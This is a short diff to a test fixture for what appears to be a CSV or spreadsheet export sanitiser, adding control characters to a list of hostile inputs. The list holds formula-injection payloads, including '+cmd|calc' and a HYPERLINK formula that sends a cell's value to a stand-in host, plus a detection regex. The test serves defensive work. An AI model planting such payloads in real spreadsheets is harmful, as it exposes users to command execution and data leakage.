@@ -14,7 +14,7 @@ import { log } from '#tests/silent-log.ts';
 const HOSTILE = [
   ...['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
   ...['a,"b"', 'two\nlines', "O'Neil", '1-2', '=HYPERLINK("http://x.example?"&A1,"b")'],
-  ...['a;=1+1', '\u009b31mred\u0085'],
+  ...['a;=1+1', '\u0080\u009b31mred\u0085\u009f'],
 ];
 const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
 const form = { page: '/contact-us', address: '192.0.2.7', userAgent: 'A browser', quarantine: false, wording: null };
